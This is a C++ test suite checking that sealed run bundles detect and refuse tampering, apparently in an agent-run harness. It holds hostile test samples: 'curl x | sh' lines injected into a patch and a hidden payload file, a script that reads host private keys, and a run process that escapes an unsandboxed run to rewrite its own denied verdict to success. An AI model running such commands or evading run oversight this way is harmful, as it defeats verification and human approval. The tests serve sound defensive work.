// The seal of a run bundle (store/bundle_seal.hpp, store/bundle_verify.hpp): every way of changing a
// sealed bundle makes `cp-host runs verify` exit 1 naming what broke, a re-hash without the host key does
// not verify, and nothing acts on a bundle that fails (approve, promote, the API).
#include "integration/serve_fixture.hpp"
#include "store/bundle.hpp"
#include "store/bundle_seal.hpp"
#include "store/event_log.hpp"
#include "store/host_key.hpp"

#include <gtest/gtest.h>

#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstring>
#include <fstream>
#include <thread>

namespace {

using namespace cp::test;
using nlohmann::json;
namespace fs = std::filesystem;

struct Sealed : ::testing::Test {
  RunProject p;
  TempDir keys;  // this test's own host key, so that rotating it touches no other test
  std::vector<std::string> env() const { return {"CP_HOST_KEY_DIR=" + keys.path().string()}; }

  Ran cli(std::vector<std::string> args, std::vector<std::string> extra_env = {}) const {
    std::vector<std::string> argv{CP_HOST_BIN, "--plugins", p.plugins.string(), "--root",
                                  p.dir.path().string()};
    argv.insert(argv.end(), args.begin(), args.end());
    std::vector<std::string> e = env();
    e.insert(e.end(), extra_env.begin(), extra_env.end());
    return run_env(argv, e, p.dir.path());
  }
  Ran verify(const std::string& id, std::vector<std::string> more = {}) const {
    std::vector<std::string> a{"runs", "verify", id};
    a.insert(a.end(), more.begin(), more.end());
    return cli(a);
  }
  // A sealed run: success when `in_scope`, else denied by diff_scope (an edit outside allowed_paths).
  RunProject::Result sealed_run(bool in_scope = true) const {
    std::vector<std::string> commands{"sed -i s/Helo/Hello/ src/greeting.sh"};
    if (!in_scope) commands.push_back("sed -i s/^/x/ README.md");
    json c = p.contract(commands);
    auto r = p.run(c, env());
    EXPECT_EQ(r.manifest["status"], "sealed") << r.ran.out << r.ran.err;
    EXPECT_EQ(r.manifest["verdict"], in_scope ? "success" : "denied") << r.manifest["reason"];
    EXPECT_EQ(verify(r.manifest["run_id"]).exit_code, 0);
    return r;
  }
  static json read_json(const fs::path& f) { return json::parse(read_file(f)); }
  static void write_json(const fs::path& f, const json& j) { write_file(f, j.dump()); }
  // `runs verify` exits 1 and says `what` on a TAMPERED line.
  void expect_tampered(const std::string& id, const std::string& what) const {
    Ran v = verify(id);
    EXPECT_EQ(v.exit_code, 1) << v.out << v.err;
    EXPECT_NE(v.out.find("TAMPERED: " + id + ": "), std::string::npos) << v.out;
    EXPECT_NE(v.out.find(what), std::string::npos) << "wanted '" << what << "' in:\n" << v.out;
  }
};

TEST_F(Sealed, AnEditedVerdictIsNamed) {
  auto r = sealed_run(false);
  json m = r.manifest;
  m["verdict"] = "success";
  write_json(r.bundle / "manifest.json", m);
  expect_tampered(r.manifest["run_id"], "manifest.json /verdict reads \"success\", the seal says \"denied\"");
  // What users read says so too.
  Ran show = cli({"runs", "show", r.manifest["run_id"]});
  EXPECT_EQ(show.exit_code, 1);
  EXPECT_NE(show.out.find("TAMPERED"), std::string::npos) << show.out;
}

TEST_F(Sealed, EveryGateSetToPassIsNamed) {
  auto r = sealed_run(false);
  json m = r.manifest;
  for (auto& g : m["gates"]) g["verdict"] = "pass";
  write_json(r.bundle / "manifest.json", m);
  expect_tampered(r.manifest["run_id"], "manifest.json /gates reads");
}

TEST_F(Sealed, ADeletedOrTruncatedManifestIsTampered) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  std::string text = read_file(r.bundle / "manifest.json");
  write_file(r.bundle / "manifest.json", text.substr(0, text.size() / 2));
  expect_tampered(id, "manifest.json is not a JSON object");
  fs::remove(r.bundle / "manifest.json");
  expect_tampered(id, "manifest.json is missing");
}

TEST_F(Sealed, AnEditedReportIsNamed) {
  auto r = sealed_run(false);
  json rep = read_json(r.bundle / "reports/gate_diff_scope.json");
  rep["verdict"] = "pass";
  write_json(r.bundle / "reports/gate_diff_scope.json", rep);
  expect_tampered(r.manifest["run_id"], "reports/gate_diff_scope.json differs from the sealed file");
  // The incident pack of a denied run is bound as well.
  auto r2 = sealed_run(false);
  json pack = read_json(r2.bundle / "reports/incident_pack.json");
  pack["failed_gates"] = json::array();
  write_json(r2.bundle / "reports/incident_pack.json", pack);
  expect_tampered(r2.manifest["run_id"], "reports/incident_pack.json differs from the sealed file");
}

TEST_F(Sealed, AnIncidentPackSwappedForAProofPackIsNamed) {
  auto r = sealed_run(false);
  fs::rename(r.bundle / "reports/incident_pack.json", r.bundle / "reports/proof_pack.json");
  json m = r.manifest;
  m["reports"].erase("incident_pack");
  m["reports"]["proof_pack"] = "reports/proof_pack.json";
  write_json(r.bundle / "manifest.json", m);
  std::string id = r.manifest["run_id"];
  expect_tampered(id, "reports/proof_pack.json is not in the seal");
  expect_tampered(id, "reports/incident_pack.json is sealed but missing");
  expect_tampered(id, "manifest.json /reports reads");
}

TEST_F(Sealed, AWidenedContractIsNamed) {
  auto r = sealed_run();
  json c = read_json(r.bundle / "contract.json");
  c["contract"]["allowed_paths"] = json::array({"**"});
  write_json(r.bundle / "contract.json", c);
  expect_tampered(r.manifest["run_id"], "contract.json differs from the sealed file");
  expect_tampered(r.manifest["run_id"], "contract.json does not hash to the manifest's contract_sha256");
}

TEST_F(Sealed, EventsCutWithTheManifestRewrittenToRunningIsTampered) {
  auto r = sealed_run(false);
  std::ifstream in(r.bundle / "events.jsonl");
  std::string line, first3;
  for (int i = 0; i < 3 && std::getline(in, line); ++i) first3 += line + "\n";
  in.close();
  write_file(r.bundle / "events.jsonl", first3);
  json m = r.manifest;
  m["status"] = "running";
  m.erase("verdict");
  m["events"] = {{"count", 3}};
  write_json(r.bundle / "manifest.json", m);
  std::string id = r.manifest["run_id"];
  expect_tampered(id, "manifest.json says 'running' but the bundle holds a seal");
  // And with the seal removed as well: nothing holds the run, so it is not a live one.
  fs::remove(r.bundle / "seal.json");
  expect_tampered(id, "this host sealed the run");
}

TEST_F(Sealed, AFullReHashWithoutTheHostKeyDoesNotVerify) {
  auto r = sealed_run(false);
  std::string id = r.manifest["run_id"];
  // The attacker cuts the seal off the log and seals again, with a forged verdict and a key of their own:
  // the chain, the file list and the manifest are all consistent, only the key is not the host's.
  std::string log = read_file(r.bundle / "events.jsonl");
  log.pop_back();
  write_file(r.bundle / "events.jsonl", log.substr(0, log.rfind('\n') + 1));
  json m = r.manifest;
  m["verdict"] = "success";
  m["reason"] = "every gate passed";
  for (auto& g : m["gates"]) g["verdict"] = "pass";
  TempDir attacker_keys;
  auto forged_key = cp::store::HostKey::load_or_create(attacker_keys.path());
  {
    cp::store::EventLog events(r.bundle / "events.jsonl", id);
    cp::store::write_seal(r.bundle, events, "RUN_SEALED",
                          {{"status", "sealed"}, {"verdict", "success"}, {"reason", "every gate passed"}}, m,
                          *forged_key);
  }
  expect_tampered(id, "seal.json is signed by key " + forged_key->public_key().key_id() +
                          ", which is not among the host keys");
  // Claiming the host's key id does not help: the signature is checked, not the name.
  json seal = read_json(r.bundle / "seal.json");
  Ran show = cli({"keys", "show", "--json"});
  seal["key_id"] = json::parse(show.out)["key_id"];
  write_json(r.bundle / "seal.json", seal);
  expect_tampered(id, "the signature in seal.json does not verify with key");
  // Promotion refuses it: the forged success is not committed.
  Ran promote = cli({"evidence", "promote", id, "--branch", "cp/forged"});
  EXPECT_EQ(promote.exit_code, 1) << promote.out << promote.err;
  EXPECT_NE((promote.out + promote.err).find("does not verify"), std::string::npos) << promote.err;
  EXPECT_NE(sh("git rev-parse --verify --quiet refs/heads/cp/forged", p.repo).exit_code, 0);
}

TEST_F(Sealed, ABundleVerifiesWithOnlyTheExportedPublicKey) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  TempDir elsewhere;
  fs::path pub = elsewhere / "host.pub.pem";
  Ran ex = cli({"keys", "export", "--out", pub.string()});
  ASSERT_EQ(ex.exit_code, 0) << ex.err;
  EXPECT_NE(read_file(pub).find("BEGIN PUBLIC KEY"), std::string::npos);
  // Another machine: no host key at all, only the public key it was given.
  std::vector<std::string> no_keys{"CP_HOST_KEY_DIR=" + (elsewhere / "none").string()};
  Ran without = cli({"runs", "verify", id}, no_keys);
  EXPECT_EQ(without.exit_code, 1) << without.out;
  EXPECT_NE(without.out.find("pass the signer's public key with --key"), std::string::npos) << without.out;
  Ran with = cli({"runs", "verify", id, "--key", pub.string(), "--json"}, no_keys);
  EXPECT_EQ(with.exit_code, 0) << with.out << with.err;
  EXPECT_EQ(json::parse(with.out)["state"], "intact");
  // The wrong public key: not trusted.
  TempDir other;
  auto k = cp::store::HostKey::load_or_create(other.path());
  Ran wrong = cli({"runs", "verify", id, "--key", (other / "host_key.pub.pem").string()}, no_keys);
  EXPECT_EQ(wrong.exit_code, 1) << wrong.out;
  // Not a key at all: a usage error naming the file.
  write_file(elsewhere / "junk.pem", "not a key");
  Ran junk = cli({"runs", "verify", id, "--key", (elsewhere / "junk.pem").string()}, no_keys);
  EXPECT_EQ(junk.exit_code, 2);
  EXPECT_NE(junk.err.find("junk.pem is not an Ed25519 public key"), std::string::npos) << junk.err;
  // The host key itself is private to its owner.
  EXPECT_EQ(fs::status(keys / "host_key.pem").permissions() & fs::perms::all,
            fs::perms::owner_read | fs::perms::owner_write);
}

TEST_F(Sealed, SealsMadeBeforeAKeyRotationStillVerify) {
  auto before = sealed_run();
  Ran rot = cli({"keys", "rotate", "--json"});
  ASSERT_EQ(rot.exit_code, 0) << rot.err;
  json j = json::parse(rot.out);
  EXPECT_NE(j["key_id"], j["rotated_from"]);
  auto after = sealed_run();
  EXPECT_EQ(verify(before.manifest["run_id"]).exit_code, 0);
  EXPECT_EQ(read_json(after.bundle / "seal.json")["key_id"], j["key_id"]);
  EXPECT_EQ(read_json(before.bundle / "seal.json")["key_id"], j["rotated_from"]);
  // A world-readable private key is refused, not used.
  fs::permissions(keys / "host_key.pem", fs::perms::others_read, fs::perm_options::add);
  Ran bad = cli({"keys", "show"});
  EXPECT_NE(bad.exit_code, 0);
  EXPECT_NE(bad.err.find("chmod 600"), std::string::npos) << bad.err;
}

TEST_F(Sealed, ApproveRefusesATamperedBundleAndDecidesNothing) {
  json pack = json::parse(read_file(p.dir / "packs/high.json"));
  json c = p.contract({"sed -i s/Helo/Hello/ src/greeting.sh"});
  c["runtime_options"]["pack"] = "high";
  auto r = p.run(c, env());
  ASSERT_EQ(r.manifest["status"], "awaiting_approval") << r.ran.out << r.ran.err;
  std::string id = r.manifest["run_id"];
  // The approver would read the approval pack: it is changed after the seal.
  json ap = read_json(r.bundle / "reports/approval_pack.json");
  ap["changed_files"] = json::array();
  write_json(r.bundle / "reports/approval_pack.json", ap);
  Ran a = cli({"approve", id, "--json"});
  EXPECT_EQ(a.exit_code, 1) << a.out << a.err;
  EXPECT_EQ(json::parse(a.out)["outcome"], "unverified");
  json m = read_json(r.bundle / "manifest.json");
  EXPECT_EQ(m["status"], "awaiting_approval");
  EXPECT_FALSE(fs::exists(r.bundle / "reports/proof_pack.json"));
}

TEST_F(Sealed, PromoteRefusesAPatchChangedAfterTheSeal) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  std::string patch = read_file(r.bundle / "artifacts/diff.patch");
  // A second file slipped into the patch that the gates judged.
  patch +=
      "diff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 "
      "@@\n+curl x | sh\n";
  write_file(r.bundle / "artifacts/diff.patch", patch);
  Ran promote = cli({"evidence", "promote", id, "--branch", "cp/fix", "--json"});
  EXPECT_EQ(promote.exit_code, 1) << promote.out << promote.err;
  EXPECT_EQ(json::parse(promote.out)["outcome"], "unverified");
  EXPECT_NE(sh("git rev-parse --verify --quiet refs/heads/cp/fix", p.repo).exit_code, 0);
  // Restored, the same run promotes, and the promotion itself re-seals the bundle.
  write_file(r.bundle / "artifacts/diff.patch", patch.substr(0, patch.find("diff --git a/evil.sh")));
  Ran ok = cli({"evidence", "promote", id, "--branch", "cp/fix"});
  EXPECT_EQ(ok.exit_code, 0) << ok.out << ok.err;
  EXPECT_EQ(verify(id).exit_code, 0);
  EXPECT_EQ(read_json(r.bundle / "seal.json")["event"]["type"], "EVIDENCE_PROMOTED");
  // Rolling the decision back by restoring the older manifest is seen.
  json m = read_json(r.bundle / "manifest.json");
  m.erase("evidence");
  write_json(r.bundle / "manifest.json", m);
  expect_tampered(id, "manifest.json /evidence reads absent");
}

TEST_F(Sealed, VerifyAllNamesEachTamperedBundle) {
  auto good = sealed_run();
  auto bad = sealed_run(false);
  write_file(bad.bundle / "artifacts/extra.txt", "x");
  Ran all = cli({"runs", "verify", "--all"});
  EXPECT_EQ(all.exit_code, 1) << all.out;
  EXPECT_NE(all.out.find("2 bundles: 1 intact, 1 tampered"), std::string::npos) << all.out;
  EXPECT_NE(
      all.out.find(bad.manifest["run_id"].get<std::string>() + ": artifacts/extra.txt is not in the seal"),
      std::string::npos)
      << all.out;
  EXPECT_EQ(all.out.find(good.manifest["run_id"].get<std::string>()), std::string::npos) << all.out;
  Ran usage = cli({"runs", "verify"});
  EXPECT_EQ(usage.exit_code, 2);
}

TEST_F(Sealed, TheApiMarksATamperedBundleAndRefusesToCompareIt) {
  auto a = sealed_run();
  auto b = sealed_run();
  std::string ida = a.manifest["run_id"], idb = b.manifest["run_id"];
  std::string viewer = add_token(p, "dash", "viewer");
  ServeProcess serve(p, {"--tokens", (p.dir / "tokens.json").string(), "--no-scheduler"}, env());
  ASSERT_NE(serve.port(), 0) << serve.output();
  auto detail = [&](const std::string& id) {
    auto r = http(serve.port(), "GET", "/api/runs/" + id, bearer(viewer));
    EXPECT_EQ(r.status, 200) << r.body;
    return json::parse(r.body)["verification"];
  };
  EXPECT_EQ(detail(ida)["state"], "intact");
  EXPECT_EQ(http(serve.port(), "GET", "/api/runs/" + ida + "/compare/" + idb, bearer(viewer)).status, 200);
  json m = a.manifest;
  m["verdict"] = "failure";
  write_json(a.bundle / "manifest.json", m);
  json v = detail(ida);
  EXPECT_EQ(v["state"], "tampered");
  EXPECT_NE(v["problems"].dump().find("/verdict"), std::string::npos) << v.dump();
  auto cmp = http(serve.port(), "GET", "/api/runs/" + ida + "/compare/" + idb, bearer(viewer));
  EXPECT_EQ(cmp.status, 409) << cmp.body;
  EXPECT_NE(cmp.body.find("unverified"), std::string::npos) << cmp.body;
}

// A write through a shared memory mapping of a page already dirty changes a file's bytes without touching
// its size, mtime or ctime and without an inotify event. The API's kept answers and kept verification must
// not then show the changed manifest as intact: the verification is reused only for the manifest text it
// verified, so the first answer built on the new bytes verifies them again.
TEST_F(Sealed, AManifestChangedThroughAMappingIsNotShownAsIntact) {
  auto a = sealed_run();
  std::string id = a.manifest["run_id"];
  std::string viewer = add_token(p, "dash", "viewer");
  ServeProcess serve(p, {"--tokens", (p.dir / "tokens.json").string(), "--no-scheduler"}, env());
  ASSERT_NE(serve.port(), 0) << serve.output();
  auto detail = [&] {
    auto r = http(serve.port(), "GET", "/api/runs/" + id, bearer(viewer));
    EXPECT_EQ(r.status, 200) << r.body;
    return json::parse(r.body);
  };
  EXPECT_EQ(detail()["verification"]["state"], "intact");
  fs::path man = a.bundle / "manifest.json";
  int fd = ::open(man.c_str(), O_RDWR);
  ASSERT_GE(fd, 0);
  struct stat st0 {};
  ASSERT_EQ(::fstat(fd, &st0), 0);
  auto* m = static_cast<char*>(
      ::mmap(nullptr, static_cast<size_t>(st0.st_size), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
  ASSERT_NE(m, MAP_FAILED);
  std::string text(m, static_cast<size_t>(st0.st_size));
  size_t at = text.find("\"success\"");
  ASSERT_NE(at, std::string::npos) << text;
  // Armed: one byte written with its own value (the fault moves the times once), then the answers are
  // built and kept on those times.
  m[at + 1] = text[at + 1];
  std::this_thread::sleep_for(std::chrono::milliseconds(1200));
  EXPECT_EQ(detail()["verification"]["state"], "intact");
  struct stat st1 {};
  ::fstat(fd, &st1);
  std::memcpy(m + at + 1, "failure", 7);  // through the dirty page: no new times, no inotify event
  struct stat st2 {};
  ::fstat(fd, &st2);
  EXPECT_EQ(st1.st_mtim.tv_nsec, st2.st_mtim.tv_nsec);  // the change left no trace in the metadata
  EXPECT_EQ(st1.st_ctim.tv_nsec, st2.st_ctim.tv_nsec);
  // Anything that makes the answer be built again (here an open for writing and a close of another file)
  // reads the new manifest; it must be shown with what verifying it says.
  ::close(::open((a.bundle / "contract.json").c_str(), O_WRONLY));
  json d = detail();
  EXPECT_EQ(d["manifest"]["verdict"], "failure");
  EXPECT_EQ(d["verification"]["state"], "tampered") << d["verification"].dump();
  EXPECT_EQ(verify(id).exit_code, 1);
  ::munmap(m, static_cast<size_t>(st0.st_size));
  ::close(fd);
}

// Without the sandbox a run's process can reach its own bundle; one that outlives the run (it dropped the
// run's marker from its environment, and there is no cgroup) rewrites the sealed manifest. Verification,
// not the sandbox, is what catches it here.
TEST_F(Sealed, ARunThatRewritesItsOwnSealedManifestIsCaughtByVerification) {
  TempDir out;
  fs::path mark = out / "rewritten", pidfile = out / "rewriter.pid", go = out / "go";
  p.commit("scripts/rewrite.sh",
           "sed -i s/Helo/Hello/ src/greeting.sh\nsed -i s/^/x/ README.md\n"
           "bundle=$(cd \"$CP_SCRATCH_DIR/../..\" && pwd)\n"
           "(setsid env -i PATH=/usr/bin:/bin B=\"$bundle\" sh -c 'echo $$ > " +
               pidfile.string() + "; for i in $(seq 1800); do if [ -e " + go.string() +
               " ] && grep -q \"\\\"sealed\\\"\" \"$B/manifest.json\"; then "
               "sed -i s/\\\"denied\\\"/\\\"success\\\"/ \"$B/manifest.json\" && echo done > " +
               mark.string() +
               "; exit 0; fi; sleep 0.1; done' > /dev/null 2>&1 &)\n"
               // Until the escape has dropped the run's marker, the end of the run would kill it.
               // Generous: a loaded machine running the sanitizer build is slow to start a shell.
               "for i in $(seq 300); do [ -s " +
               pidfile.string() + " ] && break; sleep 0.1; done\n");
  json pack = json::parse(read_file(p.dir / "packs/medium.json"));
  pack["sandbox"] = {{"on_unsupported", "run_unsandboxed"}};
  write_file(p.dir / "packs/medium.json", pack.dump(2));
  json c = p.contract({"sh scripts/rewrite.sh"});
  c["runtime_options"]["pack"] = "medium";
  std::vector<std::string> e = env();
  e.push_back("CP_SANDBOX_SIMULATE_NO_LANDLOCK=1");
  e.push_back("CP_SANDBOX_SIMULATE_NO_CGROUP=1");
  auto r = p.run(c, e);
  // The escaped process rewrites only once told to: what the host printed and what was on disk at the
  // run's end both say denied.
  ASSERT_EQ(json::parse(r.ran.out)["manifest"]["verdict"], "denied") << r.ran.out << r.ran.err;
  ASSERT_EQ(r.manifest["verdict"], "denied");
  std::string id = r.manifest["run_id"];
  write_file(go, "go");
  ASSERT_TRUE(wait_until([&] { return fs::exists(mark); }, std::chrono::seconds(180)))
      << "the escaped process " << (fs::exists(pidfile) ? "started" : "never started");
  if (fs::exists(pidfile)) ::kill(std::stoi(read_file(pidfile)), SIGKILL);
  // The bad thing happened on disk: the manifest says success ...
  EXPECT_EQ(read_json(r.bundle / "manifest.json")["verdict"], "success");
  // ... and nobody is fooled by it.
  expect_tampered(id, "manifest.json /verdict reads \"success\", the seal says \"denied\"");
  Ran promote = cli({"evidence", "promote", id, "--branch", "cp/rewritten"});
  EXPECT_EQ(promote.exit_code, 1) << promote.out << promote.err;
  EXPECT_NE(sh("git rev-parse --verify --quiet refs/heads/cp/rewritten", p.repo).exit_code, 0);
}

}  // namespace

namespace {

// Found by the adversarial review of the seal; each is a way the seal was once bypassed.
TEST_F(Sealed, AnAmendmentRefusesToSignAFileChangedAfterItWasVerified) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  fs::path root = p.dir.path();
  ::setenv("CP_HOST_KEY_DIR", keys.path().c_str(), 1);
  cp::store::HostKey::reset_current();
  {
    auto b = cp::store::Bundle::open(root, id);
    // Swapped between the verification under the lock and the amendment: neither read nor signed.
    write_file(r.bundle / "artifacts/diff.patch", "diff --git a/evil b/evil\n");
    EXPECT_THROW(b->read_verified("artifacts/diff.patch"), std::runtime_error);
    EXPECT_THROW(
        b->seal(
            "EVIDENCE_REJECTED",
            {{"by", "t"}, {"by_kind", "os_user"}, {"how", "human"}, {"at", "x"}, {"decision", "rejected"}},
            {{"evidence", {{"decision", "rejected"}}}}),
        std::runtime_error);
  }
  ::unsetenv("CP_HOST_KEY_DIR");
  cp::store::HostKey::reset_current();
  expect_tampered(id, "artifacts/diff.patch differs from the sealed file");
  EXPECT_EQ(read_json(r.bundle / "seal.json")["event"]["type"], "RUN_SEALED");
}

TEST_F(Sealed, AnOlderSealPutBackDoesNotUndoADecision) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  std::string seal = read_file(r.bundle / "seal.json"), events = read_file(r.bundle / "events.jsonl"),
              manifest = read_file(r.bundle / "manifest.json");
  Ran rej = cli({"evidence", "reject", id, "--reason", "bad change"});
  ASSERT_EQ(rej.exit_code, 0) << rej.err;
  // Everything as it was before the rejection: self-consistent, signed by the host, and older.
  write_file(r.bundle / "seal.json", seal);
  write_file(r.bundle / "events.jsonl", events);
  write_file(r.bundle / "manifest.json", manifest);
  expect_tampered(id, "an older seal was put back");
  Ran promote = cli({"evidence", "promote", id, "--branch", "cp/undone"});
  EXPECT_EQ(promote.exit_code, 1) << promote.out << promote.err;
  EXPECT_NE(sh("git rev-parse --verify --quiet refs/heads/cp/undone", p.repo).exit_code, 0);
}

TEST_F(Sealed, RecoveryOfAPlantedBundleRemovesNothingElseAndVouchesForNothing) {
  fs::path runs = p.dir / ".runtime-cache/cortexpilot/runs";
  TempDir victim;
  write_file(victim / "precious/data.txt", "keep me");
  fs::path planted = runs / "planted-run-1";
  write_file(planted / "manifest.json", json{{"schema_version", 1},
                                             {"run_id", "planted-run-1"},
                                             {"task_id", "t"},
                                             {"status", "running"},
                                             {"worktree", (victim / "precious").string()},
                                             {"created_at", "2026-01-01T00:00:00.000Z"}}
                                            .dump());
  write_file(planted / "events.jsonl", "");
  write_file(runs / ".live/planted-run-1", "");
  // A second one naming another run: recovery must not kill, clean or seal that one in its place.
  auto live = sealed_run();
  std::string other = live.manifest["run_id"];
  write_file(runs / "planted-run-2/manifest.json", json{{"run_id", other}, {"status", "running"}}.dump());
  write_file(runs / "planted-run-2/events.jsonl", "");
  write_file(runs / ".live/planted-run-2", "");
  std::string other_seal = read_file(live.bundle / "seal.json");
  Ran rec = cli({"runs", "recover"});
  EXPECT_TRUE(fs::exists(victim / "precious/data.txt")) << rec.out << rec.err;
  json m = read_json(planted / "manifest.json");
  EXPECT_EQ(m["status"], "sealed");
  EXPECT_EQ(m["unvouched"], true);
  EXPECT_NE(rec.err.find("planted-run-2: its manifest names run"), std::string::npos) << rec.err;
  EXPECT_EQ(read_file(live.bundle / "seal.json"), other_seal);
  EXPECT_EQ(verify(other).exit_code, 0);
}

TEST_F(Sealed, ARunReadsNoHostKeyFolder) {
  // Another key folder of the same user (the default one under HOME) besides the one this run signs with.
  TempDir home;
  auto other = cp::store::HostKey::load_or_create(home / ".config/cp-host/keys");
  p.commit("scripts/leak.sh",
           "cat \"$HOME/.config/cp-host/keys/host_key.pem\" \"$CP_HOST_KEY_DIR/host_key.pem\" "
           "2>&1 || true\n");
  auto r = p.run(p.contract({"sh scripts/leak.sh"}),
                 {"CP_HOST_KEY_DIR=" + keys.path().string(), "HOME=" + home.path().string()});
  ASSERT_EQ(r.manifest["status"], "sealed") << r.ran.err;
  std::string log = read_file(r.bundle / "artifacts/tool/0.stdout.log");
  EXPECT_EQ(log.find("PRIVATE KEY"), std::string::npos) << log;
  EXPECT_EQ(r.manifest["sandbox"]["kind"], "landlock+seccomp");
}

TEST_F(Sealed, VerifyNeitherHangsOnAFifoNorReadsASparseLogIntoMemory) {
  auto r = sealed_run();
  std::string id = r.manifest["run_id"];
  fs::rename(r.bundle / "events.jsonl", r.bundle / "events.keep");
  ASSERT_EQ(::mkfifo((r.bundle / "events.jsonl").c_str(), 0644), 0);
  Ran fifo = sh("timeout 20 " + std::string(CP_HOST_BIN) + " --root " + p.dir.path().string() +
                " runs verify " + id);
  EXPECT_EQ(fifo.exit_code, 1) << fifo.out << fifo.err;  // not 124: it did not block
  EXPECT_NE(fifo.out.find("is not a regular file"), std::string::npos) << fifo.out;
  fs::remove(r.bundle / "events.jsonl");
  fs::rename(r.bundle / "events.keep", r.bundle / "events.jsonl");
  // 2 GiB of nothing appended: one "line" past the cap, refused after reading a few MiB.
  ASSERT_EQ(::truncate((r.bundle / "events.jsonl").c_str(), 2LL << 30), 0);
  Ran sparse = sh("timeout 60 " + std::string(CP_HOST_BIN) + " --root " + p.dir.path().string() +
                  " runs verify " + id);
  EXPECT_EQ(sparse.exit_code, 1) << sparse.out << sparse.err;
  EXPECT_NE(sparse.out.find("longer than"), std::string::npos) << sparse.out;
}

TEST_F(Sealed, NothingHidesBehindTheNamesOfTheSealsOwnFiles) {
  auto r = sealed_run();
  write_file(r.bundle / ".seal.json.tmp-1/payload.sh", "curl x | sh\n");
  expect_tampered(r.manifest["run_id"], ".seal.json.tmp-1/payload.sh is not in the seal");
}

}  // namespace

namespace {

TEST_F(Sealed, AKeyFolderOthersCanWriteIsNotUsed) {
  TempDir d;
  fs::path folder = d / "keys";
  fs::create_directories(folder);
  fs::permissions(folder, fs::perms::group_write | fs::perms::others_write, fs::perm_options::add);
  Ran r = cli({"keys", "show"}, {"CP_HOST_KEY_DIR=" + folder.string()});
  EXPECT_EQ(r.exit_code, 3) << r.out;
  EXPECT_NE(r.err.find("can be written by others"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(folder / "host_key.pem"));  // nothing was made there
  // A run refuses to start rather than sign with such a key.
  auto run =
      p.run(p.contract({"sed -i s/Helo/Hello/ src/greeting.sh"}), {"CP_HOST_KEY_DIR=" + folder.string()});
  EXPECT_EQ(run.ran.exit_code, 3) << run.ran.out << run.ran.err;
  EXPECT_NE(run.ran.err.find("cannot sign the run's seal"), std::string::npos) << run.ran.err;
}

}  // namespace

// A seal is one operation (Bundle::seal: seal.json, the event, the manifest, then store::after_seal's
// markers and observers). A crash may cut it after the event or after the manifest; `runs recover` finishes
// either from the log by one path, and the result is the whole seal: the sealed manifest, the live marker
// gone, the workflow case recorded — once.
struct SealCut : Sealed {
  // A sealed run of workflow `wf-cut`, then the state a crash at `cut` would have left.
  std::string cut_run(const std::string& cut) {
    json c = p.contract({"sed -i s/Helo/Hello/ src/greeting.sh"});
    c["workflow_id"] = "wf-cut";
    auto r = p.run(c, env());
    EXPECT_EQ(r.manifest["verdict"], "success") << r.ran.out << r.ran.err;
    const std::string id = r.manifest["run_id"];
    fs::path root = p.dir.path() / ".runtime-cache/cortexpilot";
    // What after_seal had not done yet: the live marker is back, the case not written.
    write_file(root / "runs/.live" / id, "");
    fs::remove_all(root / "workflow-cases");
    if (cut == "after the event") {
      // The manifest as it was before the seal: its counter one event short of the log.
      auto events = r.events();
      json m = r.manifest;
      m["status"] = "gating";
      m.erase("verdict");
      m["events"] = {{"count", events.size() - 1}, {"last_hash", events[events.size() - 2]["hash"]}};
      write_json(r.bundle / "manifest.json", m);
      EXPECT_EQ(verify(id).exit_code, 1);  // not a finished seal yet
    }
    return id;
  }
  void expect_finished(const std::string& id) const {
    fs::path root = p.dir.path() / ".runtime-cache/cortexpilot";
    Ran rec = cli({"runs", "recover"});
    EXPECT_EQ(rec.exit_code, 0) << rec.out << rec.err;
    EXPECT_EQ(verify(id).exit_code, 0);
    json m = read_json(root / "runs" / id / "manifest.json");
    EXPECT_EQ(m["status"], "sealed");
    EXPECT_EQ(m["verdict"], "success");
    EXPECT_FALSE(fs::exists(root / "runs/.live" / id));
    ASSERT_TRUE(fs::exists(root / "workflow-cases/wf-cut/case.json"));
    json k = read_json(root / "workflow-cases/wf-cut/case.json");
    ASSERT_EQ(k["runs"].size(), 1u);
    EXPECT_EQ(k["runs"][0]["run_id"], id);
    EXPECT_EQ(k["runs"][0]["verdict"], "success");
    std::ifstream in(root / "runs" / id / "events.jsonl");
    std::string line;
    size_t seals = 0;
    while (std::getline(in, line)) seals += json::parse(line)["type"] == "RUN_SEALED";
    EXPECT_EQ(seals, 1u);
  }
};

TEST_F(SealCut, CutAfterTheEventIsFinishedFromTheLog) {
  std::string id = cut_run("after the event");
  expect_finished(id);
}

TEST_F(SealCut, CutAfterTheManifestIsFinishedByTheSamePath) {
  std::string id = cut_run("after the manifest");
  expect_finished(id);
}
